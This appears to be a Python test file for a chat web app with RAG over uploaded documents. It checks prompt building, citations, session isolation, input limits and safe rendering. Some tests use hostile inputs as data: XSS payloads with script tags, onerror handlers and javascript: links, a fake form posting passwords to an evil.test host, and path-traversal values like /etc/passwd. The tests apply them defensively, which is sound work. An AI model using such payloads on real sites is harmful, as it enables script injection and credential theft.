"""webapp.chat, documents and models in-process, on the real model, embedder and Chroma."""

from __future__ import annotations

import itertools
import threading
import time
from dataclasses import replace

import pytest

from core import checkpoint
from core.config import ModelConfig
from core.generate.engine import Generation
from core.generate.prompts import NOT_COVERED
from core.generate.settings import DEFAULTS, GenerationSettings
from core.model import Decoder
from core.tokenizer import Tokenizer
from ingest import Embedder, Store, collection_name
from tests.ingest.pdfs import text_pdf
from webapp.chat import (
    RAG_DEFAULTS,
    ChatInputError,
    ChatLimits,
    ChatRequest,
    ChatService,
    Reply,
)
from webapp.display import answer_markdown, conversation, plain, sources_markdown
from webapp.documents import Library
from webapp.handlers import notices
from webapp.models import ModelChoiceError, ModelRegistry


class Clock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def embedder() -> Embedder:
    return Embedder(precision="fp32")


@pytest.fixture(scope="module")
def registry(smollm2) -> ModelRegistry:
    return ModelRegistry("no-models-here", loader=lambda source: smollm2)


@pytest.fixture
def library(tmp_path, embedder):
    lib = Library(path=tmp_path / "chroma", embedder=embedder, clock=Clock())
    yield lib
    lib.close()


@pytest.fixture
def service(registry, library) -> ChatService:
    return ChatService(
        registry, library, limits=ChatLimits(max_new_tokens=12, max_prompt_tokens=600)
    )


def test_reply_streams_a_growing_answer_clamped_by_the_server(service):
    history = [
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "content": [{"type": "text", "text": "Hello!"}]},
    ]
    replies = list(
        service.reply(ChatRequest("What is the capital of France?", history, max_new_tokens=500))
    )
    states = [r.text for r in replies]
    assert len(states) > 1
    assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(states))
    assert "Paris" in states[-1]
    llm = service.models.get("default")
    assert len(llm.tokenizer.encode(states[-1])) <= 12  # cap 12, not 500
    # the notice under the answer says which weights and kernels this machine ran it on
    assert llm.path and replies[-1].path == llm.path
    assert f"Ran as {plain(llm.path)}." in notices(replies[-1], 1)  # as Markdown, escaped


def test_each_template_builds_the_prompt_it_promises(service):
    chat = service.prepare(
        ChatRequest(
            "And Spain?",
            [
                {"role": "user", "content": "Capital of France?"},
                {
                    "role": "assistant",
                    "content": "Paris." + "\n\n---\n**Sources**\n\n**\\[1\\]** a.pdf",
                },
            ],
            system_prompt="Be brief.",
        )
    )
    assert chat.text.startswith("<|im_start|>system\nBe brief.<|im_end|>")
    assert "<|im_start|>assistant\nParis.<|im_end|>" in chat.text  # sources never go back in
    assert chat.text.endswith("<|im_start|>user\nAnd Spain?<|im_end|>\n<|im_start|>assistant\n")
    assert len(chat.ids) == len(service.models.get("default").tokenizer.encode(chat.text))

    zero = service.prepare(
        ChatRequest("I loved it", template="zero-shot", instruction="Classify the sentiment.")
    )
    assert "user\nClassify the sentiment.\n\nInput:\nI loved it<|im_end|>" in zero.text

    few = service.prepare(
        ChatRequest(
            "It was awful",
            template="few-shot",
            instruction="Sentiment?",
            examples=[("Great film", "positive"), ("", ""), ("Boring", "negative")],
        )
    )
    body = few.text.split("<|im_start|>user\n")[1]
    assert body.startswith(
        "Sentiment?\n\nInput: Great film\nOutput: positive\n\nInput: Boring\nOutput: negative\n\n"
        "Input: It was awful\nOutput:"
    )
    with pytest.raises(ChatInputError, match="instruction is empty"):
        service.prepare(ChatRequest("x", template="zero-shot"))
    with pytest.raises(ChatInputError, match="example 1 needs both"):
        service.prepare(
            ChatRequest("x", template="few-shot", instruction="i", examples=[("a", "")])
        )


@pytest.mark.parametrize(
    ("request_", "error"),
    [
        (ChatRequest("   "), "message is empty"),
        (ChatRequest("x" * 9000), "limit is 8000"),
        (
            ChatRequest("hi", mode="sample", temperature=-1.0),
            "temperature must be 0 \\(greedy\\) or from",
        ),
        (ChatRequest("hi", mode="sample", top_p=1.5), "top_p must be in"),
        (
            ChatRequest("hi", mode="beam", num_beams=40),
            "num_beams must be a whole number from 1 to 8",
        ),
        (ChatRequest("hi", template="poem"), "template must be one of"),
        (ChatRequest("hi", model="/etc/passwd"), "not one of this server's models"),
        (
            ChatRequest("word " * 700),
            "725 tokens, over its budget of 600",
        ),  # the server's prompt cap
        (ChatRequest("hi", template="rag"), "none are indexed yet"),
    ],
)
def test_bad_requests_are_refused_with_a_reason(service, request_, error):
    with pytest.raises(ChatInputError, match=error):
        list(service.reply(request_, "session-a"))


def test_rag_cites_numbered_sources_from_the_sessions_documents(service, library):
    pdf = text_pdf(
        [
            "Cover page about nothing in particular.",
            "The lighthouse keeper's cat is named Marmalade Tusk.",
        ]
    )
    [result] = library.add_files("session-a", [("keeper.pdf", pdf)])
    assert result.ok, result.message
    request = ChatRequest("What is the lighthouse keeper's cat named?", template="rag")
    prepared = service.prepare(request, "session-a")
    assert prepared.sources[0].source == "keeper.pdf" and prepared.sources[0].page == 2
    assert (
        "[1] (keeper.pdf, page 2)\nThe lighthouse keeper's cat is named Marmalade Tusk."
        in prepared.text
    )
    final = list(service.reply(request, "session-a"))[-1]
    assert final.done and final.sources[0].page == 2
    shown = answer_markdown(final)
    assert "**\\[1\\]** keeper.pdf, page 2 · score" in shown
    assert conversation([{"role": "assistant", "content": shown}]) == [
        {"role": "assistant", "content": final.text}
    ]
    with pytest.raises(
        ChatInputError, match="none are indexed yet"
    ):  # another session sees nothing
        service.prepare(request, "session-b")


def test_a_rag_question_during_indexing_waits_for_it(registry, library):
    # a prompt cap that four sources overflow: the lowest-ranked ones go, and the answer says so
    limits = ChatLimits(max_new_tokens=12, max_prompt_tokens=400, index_wait_in_slot_s=300)
    service = ChatService(registry, library, limits=limits)
    pages = [f"Paragraph {i} about harbour logistics and tide tables. " * 30 for i in range(12)]
    pages[7] = "The harbour master's password is CORAL-LANTERN."
    worker = threading.Thread(
        target=library.add_files, args=("session-a", [("harbour.pdf", text_pdf(pages))])
    )
    worker.start()
    while not library.pending("session-a"):
        time.sleep(0.01)
    replies = iter(
        service.reply(
            ChatRequest("What is the harbour master's password?", template="rag"), "session-a"
        )
    )
    assert "Waiting for your uploads to finish indexing" in next(replies).text
    *_, final = replies
    worker.join()
    assert final.sources and final.sources[0].page == 8
    assert any("best of 4 sources to fit the prompt budget" in n for n in final.notices)
    assert all(e.number <= len(final.sources) for e in final.evidence)  # quotes only kept ones


def test_sources_are_shown_as_inert_text():
    from ingest import Hit

    hit = Hit(
        "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3))",
        "<b>a</b>.md",
        1,
        0.5,
        "id",
        "hash",
    )
    shown = sources_markdown([hit])
    assert "<script>" not in shown and "<img" not in shown and "<b>" not in shown
    assert "&lt;script&gt;" in shown and "\\[x\\](javascript:alert(3))" in shown


def test_sessions_are_isolated_and_idle_ones_expire(library, tmp_path, embedder):
    owner_a, owner_b = library.owner_for("key-a"), library.owner_for("key-b")
    assert owner_a != owner_b and owner_a == library.owner_for("key-a")
    assert "key-a" not in owner_a  # the owner id is the server's own random value
    library.add_files("key-a", [("canary.txt", b"The canary phrase is QUILL-ORBIT-77.")])
    assert [d.source for d in library.documents("key-a")] == ["canary.txt"]
    assert library.documents("key-b") == []
    assert library.search("key-b", "canary phrase", 5) == []
    library.clock.now += 3000  # key-b active, key-a idle for < ttl
    library.owner_for("key-b")
    assert library.sweep() == []
    library.clock.now += 700  # key-a idle for 3700 s > 3600 s
    assert library.sweep() == [owner_a]
    with Store("someone-else", path=tmp_path / "chroma") as store:
        names = {c.name for c in store.client.list_collections()}
    assert collection_name(owner_a) not in names  # the collection itself is gone
    assert library.documents("key-a") == []  # a returning session starts empty, under a new owner
    assert library.owner_for("key-a") != owner_a


def test_a_shared_library_is_searched_by_every_session_and_read_only(tmp_path, embedder):
    with Store("team-library", path=tmp_path / "chroma", embedder=embedder) as store:
        store.add_file(b"The team's launch date is the ninth of Thermidor.", name="plan.txt")
    lib = Library(path=tmp_path / "chroma", embedder=embedder, shared="team-library")
    try:
        rows = lib.documents("anyone")
        assert [(r.source, r.shared) for r in rows] == [("plan.txt", True)]
        assert lib.search("anyone", "launch date", 3)[0].source == "plan.txt"
        with pytest.raises(Exception, match="No document 'plan.txt'"):
            lib.delete("anyone", "plan.txt")
        assert lib.documents("someone-else")[0].source == "plan.txt"
    finally:
        lib.close()


def test_model_selector_lists_checkpoints_and_refuses_the_rest(tmp_path, monkeypatch):
    config = ModelConfig(vocab_size=300, n_layer=1, n_head=2, n_embd=16, block_size=32)
    tokenizer = Tokenizer.train(["hello world " * 50], 300)
    checkpoint.save(Decoder(config), tmp_path / "tiny-demo", tokenizer)
    (tmp_path / "not-a-model").mkdir()
    registry = ModelRegistry(tmp_path, capacity=1)
    assert registry.choices() == [
        ("SmolLM2-135M-Instruct (default)", "default"),
        ("tiny-demo", str(tmp_path / "tiny-demo")),
    ]
    llm = registry.get(str(tmp_path / "tiny-demo"))
    assert llm.config.n_embd == 16 and registry.get(str(tmp_path / "tiny-demo")) is llm
    for bad in ("/etc/passwd", "../models", str(tmp_path / "not-a-model")):
        with pytest.raises(ModelChoiceError, match="not one of this server's models"):
            registry.resolve(bad)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    with pytest.raises(ModelChoiceError, match="not one of this server's models"):
        registry.resolve("HuggingFaceTB/SmolLM2-360M-Instruct")


def test_one_reply_is_one_pass_and_decodes_the_ids_show_prompt_shows(service, smollm2, monkeypatch):
    """The message is checked and its settings validated once, the prompt tokenized once, the
    model decodes exactly the ids "show prompt" displays, and the reply is the pieces it yields."""
    encoded, validated, started, pieces = [], [], [], []
    encode, start, iterate = smollm2.tokenizer.encode_chat, smollm2.start, Generation.__iter__
    validate = GenerationSettings.validate

    def counting_encode(messages, *args, **kwargs):
        encoded.append(messages)
        return encode(messages, *args, **kwargs)

    def recording_start(prompt, settings, cancel=None):
        started.append(list(prompt.ids))
        return start(prompt, settings, cancel)

    def recording_iter(generation):
        for piece in iterate(generation):
            pieces.append(piece.text)
            yield piece

    def counting_validate(settings, **caps):
        validated.append(settings)
        return validate(settings, **caps)

    monkeypatch.setattr(smollm2.tokenizer, "encode_chat", counting_encode)
    monkeypatch.setattr(smollm2, "start", recording_start)
    monkeypatch.setattr(Generation, "__iter__", recording_iter)
    monkeypatch.setattr(GenerationSettings, "validate", counting_validate)
    history = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello!"}]
    request = ChatRequest("Name a colour.", history=history, max_new_tokens=8)
    replies = list(service.reply(request))
    assert len(encoded) == 1 and len(validated) == 1 and len(started) == 1
    shown = service.prepare(request)
    assert started[0] == shown.ids
    assert shown.text == smollm2.tokenizer.decode(shown.ids, skip_special_tokens=False)
    assert replies[-1].done and replies[-1].text == "".join(pieces) != ""


def test_rag_defaults_apply_when_the_client_sends_no_knobs(service):
    rag = service.settings(ChatRequest("q", template="rag"))
    cap = service.limits.max_new_tokens  # the fixture's server caps replies at 12 tokens
    assert rag == replace(RAG_DEFAULTS, max_new_tokens=min(RAG_DEFAULTS.max_new_tokens, cap))
    assert rag.no_repeat_ngram_size > 0 and not rag.penalize_prompt  # what stops loops
    chat = service.settings(ChatRequest("q"))
    assert chat == replace(DEFAULTS, max_new_tokens=min(DEFAULTS.max_new_tokens, cap))
    mine = service.settings(ChatRequest("q", template="rag", no_repeat_ngram_size=0, top_k=5))
    assert mine.no_repeat_ngram_size == 0 and mine.top_k == 5  # still the client's to override


def test_rag_evidence_is_a_sentence_of_source_one_and_the_answer_quotes_it(service, library):
    pages = [
        "Cover page about nothing in particular.",
        "Lighthouses guide ships. The lighthouse keeper's cat is named Marmalade Tusk. "
        "The lamp is lit at dusk.",
    ]
    assert library.add_files("session-a", [("keeper.pdf", text_pdf(pages))])[0].ok
    request = ChatRequest("What is the name of the lighthouse keeper's cat?", template="rag")
    prepared = service.prepare(request, "session-a")
    evidence = prepared.evidence[0]  # the best of the (up to two) quoted sentences
    assert (evidence.number, evidence.source, evidence.page) == (1, "keeper.pdf", 2)
    assert evidence.sentence == "The lighthouse keeper's cat is named Marmalade Tusk."
    assert evidence.sentence in prepared.sources[0].text and prepared.sources[0].page == 2
    assert f'from [1]: "{evidence.sentence}"' in prepared.text  # shown by "Show prompt"
    final = list(service.reply(request, "session-a"))[-1]
    assert f'\n\n> "{evidence.sentence}" [1] (keeper.pdf, page 2)' in final.text
    assert f"<mark>{evidence.sentence}</mark>" in answer_markdown(final).replace("\\", "")


def test_a_question_the_documents_do_not_cover_is_answered_so_without_the_model(
    service, library, smollm2, monkeypatch
):
    # related enough to be retrieved (cosine 0.14), far below the 0.45 an answer needs
    text = b"Football clubs train on grass pitches in winter."
    assert library.add_files("session-a", [("clubs.txt", text)])[0].ok
    monkeypatch.setattr(smollm2, "start", lambda *a, **k: pytest.fail("the model was asked"))
    request = ChatRequest("Who won the 1966 football world cup final?", template="rag")
    [final] = list(service.reply(request, "session-a"))
    assert final.done and final.text.startswith(NOT_COVERED)
    assert "closest passages: [1] clubs.txt, page 1" in final.text and final.evidence == ()
    assert any("the documents do not cover this" in n for n in final.notices)


@pytest.mark.parametrize(
    ("change", "error"),
    [
        (dict(history=[{"role": "user", "content": "hi"}] * 201), "has 201 messages; the limit"),
        (dict(history=[{"role": "user", "content": "x" * 100_001}] * 2), "200000"),
        (dict(system_prompt="s" * 8001), "The system prompt has 8001 characters"),
        (dict(instruction="i" * 8001, template="zero-shot"), "The instruction has 8001"),
        (dict(examples=[("a" * 5000, "b" * 5000)], template="few-shot"), "few-shot example 1"),
        (dict(history="not a list"), "history must be a list"),
        (dict(seed=2**70), "seed must be empty or a whole number"),
        (dict(seed=float("inf")), "not a usable number"),
        (dict(mode="sample", temperature=1e-300), "temperature must be 0 \\(greedy\\) or from"),
    ],
)
def test_oversized_or_unusable_requests_are_refused_before_the_model(service, change, error):
    with pytest.raises(ChatInputError, match=error):
        service.check(ChatRequest("Hello", **change))


def test_history_of_non_messages_is_ignored_not_a_crash(service):
    history = ["text", 3, None, {"role": "user", "content": "Hi"}]
    prepared = service.prepare(ChatRequest("Hello", history=history, max_new_tokens=2))
    assert prepared.messages[-2:] == [
        {"role": "user", "content": "Hi"},
        {"role": "user", "content": "Hello"},
    ]


def test_replies_are_shown_without_live_html_and_round_trip_as_written():
    text = (
        'Log in here: <form action="http://evil.test/steal"><input name="pw"></form> '
        "![logo](http://evil.test/track.png) and a <b>bold</b> claim & more."
    )
    md = answer_markdown(Reply(text))
    assert "<form" not in md and "<input" not in md and "<b>" not in md
    assert "&lt;form" in md and "!\\[logo](http://evil.test/track.png)" in md
    assert conversation([{"role": "assistant", "content": md}]) == [
        {"role": "assistant", "content": text}
    ]


def test_rag_retrieval_mode_is_a_request_field_and_sources_say_why_they_ranked(service, library):
    pages = ["Set the zorbulate depth with the --zorbulate-depth option.", "Tides at noon."]
    assert library.add_files("session-a", [("opts.txt", "\f".join(pages).encode())])[0].ok
    question = "How do I change the zorbulate depth?"
    default = service.prepare(ChatRequest(question, template="rag"), "session-a")
    assert default.sources[0].page == 1 and default.sources[0].why.mode == "hybrid+rerank"
    keyword = service.prepare(
        ChatRequest(question, template="rag", retrieval="keyword"), "session-a"
    )
    assert [(h.page, h.why.mode) for h in keyword.sources] == [(1, "keyword")]  # p2 lacks a word
    shown = sources_markdown(keyword.sources, keyword.evidence)
    assert "<details><summary>Why these sources ranked</summary>" in shown
    assert "\\[1\\] dense 0." in shown and "keyword \\#1" in shown and shown.endswith("</details>")
    with pytest.raises(ChatInputError, match="retrieval must be one of dense, keyword"):
        service.prepare(ChatRequest(question, template="rag", retrieval="magic"), "session-a")
    with pytest.raises(ChatInputError, match="no letters or digits"):
        service.prepare(ChatRequest("?!? …", template="rag"), "session-a")
